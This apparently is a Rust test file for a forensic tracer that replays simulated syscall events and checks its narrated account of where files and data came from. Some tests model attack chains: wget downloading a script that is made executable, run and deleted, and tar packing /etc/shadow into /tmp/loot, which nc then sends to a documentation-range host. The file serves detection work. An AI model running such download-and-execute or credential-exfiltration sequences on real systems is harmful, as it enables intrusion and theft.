//! Stories from made-up events: where files and data come from, and what becomes of them.

mod incident;
mod told;

use afterimage_format::model::Value::{Bytes, Int};
use incident::{READ, WRITE};
use told::check;

#[test]
fn a_dropped_program_is_followed_to_its_end() {
    check(
        |r| {
            r.fork(1002, 1003).exec(1003, "/bin/wget", &["wget", "http://x/s"]);
            r.at(11)
                .connect(1003, 3, "10.0.0.5:40000", "203.0.113.9:80")
                .write(1003, 3, "GET /s HTTP/1.1\r\n");
            r.at(12).read(1003, 3, "#!/bin/sh\nid\n");
            r.at(13)
                .open(1003, 4, "/tmp/s", WRITE)
                .at(14)
                .write(1003, 4, "#!/bin/sh\nid\n")
                .exit(1003, 0);
            r.at(20).call(1002, "chmod", 0, &[Int(0), Bytes(b"/tmp/s"), Int(0o755)]);
            r.at(30).fork(1002, 1004).exec(1004, "/tmp/s", &["/bin/sh", "/tmp/s"]);
            r.at(31)
                .open(1004, 3, "/tmp/s", READ)
                .read(1004, 3, "#!/bin/sh\nid\n")
                .at(32)
                .exit(1004, 0x100);
            r.at(40).call(1002, "unlink", 0, &[Int(0), Bytes(b"/tmp/s")]);
        },
        &[
            "wget(1003) exec /bin/wget http://x/s [root; exit 0 after 4.0 ms]",
            "! wget(1003) connect 203.0.113.9:80 tcp, sent 17 B, received 13 B [said \"GET /s HTTP/1.1\"]",
            "! wget(1003) write /tmp/s 13 B [new or emptied; after receiving 13 B from 203.0.113.9:80; \
             made executable by sh(1002) at 10:00:00.020000; executed by s(1004) at 10:00:00.030000; \
             deleted by sh(1002) at 10:00:00.040000]",
            "! sh(1002) chmod 0755 /tmp/s [written by wget(1003) at 10:00:00.014000 after receiving 13 B from 203.0.113.9:80; \
             executed by s(1004) at 10:00:00.030000; deleted by sh(1002) at 10:00:00.040000]",
            "! s(1004) exec /tmp/s as /bin/sh /tmp/s [root; dropped by wget(1003) at 10:00:00.014000 after receiving 13 B from \
             203.0.113.9:80; made executable by sh(1002) at 10:00:00.020000; deleted by sh(1002) at 10:00:00.040000; \
             exit 1 after 2.0 ms]",
            "! sh(1002) delete /tmp/s [written by wget(1003) at 10:00:00.014000 after receiving 13 B from 203.0.113.9:80; \
             had been executed by s(1004) at 10:00:00.030000]",
        ],
    );
}

#[test]
fn what_leaves_is_followed_back_to_the_files_it_came_from() {
    check(
        |r| {
            r.fork(1002, 1003).exec(1003, "/bin/tar", &["tar", "c", "/tmp/loot"]);
            r.open(1003, 3, "/tmp/loot", WRITE)
                .at(11)
                .open(1003, 4, "/etc/shadow", READ)
                .read(1003, 4, "root:*:");
            r.at(12)
                .open(1003, 5, "/srv/orders", READ)
                .read(1003, 5, "1,Ada")
                .write(1003, 3, "packed");
            // nc < /tmp/loot: the shell's child opens the file, nc sends it.
            r.at(20)
                .fork(1002, 1004)
                .open(1004, 3, "/tmp/loot", READ)
                .dup(1004, 3, 0);
            r.at(21).exec(1004, "/bin/nc", &["nc", "203.0.113.9", "4444"]);
            r.at(22)
                .connect(1004, 3, "10.0.0.5:40000", "203.0.113.9:4444")
                .at(23)
                .read(1004, 0, "packed");
            r.at(24).write(1004, 3, "packed");
        },
        &[
            "tar(1003) exec /bin/tar c /tmp/loot [root]",
            "! tar(1003) read /etc/shadow 7 B [password hashes]",
            "tar(1003) write /tmp/loot 6 B [new or emptied; after reading /etc/shadow, /srv/orders]",
            "tar(1003) read /srv/orders 5 B",
            "nc(1004) exec /bin/nc 203.0.113.9 4444 [root]",
            "! nc(1004) connect 203.0.113.9:4444 tcp, sent 6 B, received 0 B [after reading /tmp/loot \
             (written after reading /etc/shadow, /srv/orders); said \"packed\"]",
            "nc(1004) read /tmp/loot 6 B [written by tar(1003) at 10:00:00.012000 after reading /etc/shadow, /srv/orders]",
        ],
    );
}

#[test]
fn sendfile_moves_from_and_to_what_was_inherited() {
    check(
        |r| {
            r.open(1002, 9, "/tmp/out", WRITE)
                .fork(1002, 1003)
                .exec(1003, "/bin/cat", &["cat", "/srv/a"]);
            r.at(11).open(1003, 3, "/srv/a", READ).sendfile(1003, 9, 3, 77);
        },
        &[
            "sh(1002) write /tmp/out 0 B [new or emptied]",
            "cat(1003) exec /bin/cat /srv/a [root]",
            "cat(1003) read /srv/a 77 B",
            "cat(1003) write /tmp/out 77 B [after reading /srv/a]",
        ],
    );
}

#[test]
fn another_program_has_not_read_what_the_one_before_it_read() {
    check(
        |r| {
            r.open(1002, 3, "/srv/a", READ)
                .read(1002, 3, "a")
                .at(11)
                .exec(1002, "/bin/nc", &["nc"]);
            r.connect(1002, 4, "10.0.0.5:40000", "203.0.113.9:80")
                .write(1002, 4, "\x01");
        },
        &[
            "sh(1002) read /srv/a 1 B",
            "nc(1002) exec /bin/nc [root]",
            "! nc(1002) connect 203.0.113.9:80 tcp, sent 1 B, received 0 B",
        ],
    );
}

#[test]
fn paths_are_resolved_and_renames_followed() {
    check(
        |r| {
            r.open(1002, 3, "/tmp/a", WRITE).write(1002, 3, "x");
            r.at(11)
                .call(1002, "rename", 0, &[Int(0), Bytes(b"tmp/./a"), Bytes(b"/tmp/b")]);
            r.at(12)
                .call(1002, "symlink", 0, &[Int(0), Bytes(b"../x"), Bytes(b"/tmp/l")]);
            r.at(13)
                .call(1002, "unlinkat", 0, &[Int(0), Int(-100), Bytes(b"tmp/d"), Int(0x200)]);
            r.at(14)
                .call(1002, "unlinkat", 0, &[Int(0), Int(55), Bytes(b"f"), Int(0)]);
            r.at(15)
                .call(1002, "unlinkat", -2, &[Int(-2), Int(-100), Bytes(b"gone"), Int(0)]);
        },
        &[
            "sh(1002) write /tmp/a 1 B [new or emptied; renamed to /tmp/b at 10:00:00.011000]",
            "sh(1002) rename /tmp/a to /tmp/b",
            "sh(1002) symlink /tmp/l to ../x",
            "sh(1002) rmdir /tmp/d",
            "sh(1002) delete f",
        ],
    );
}
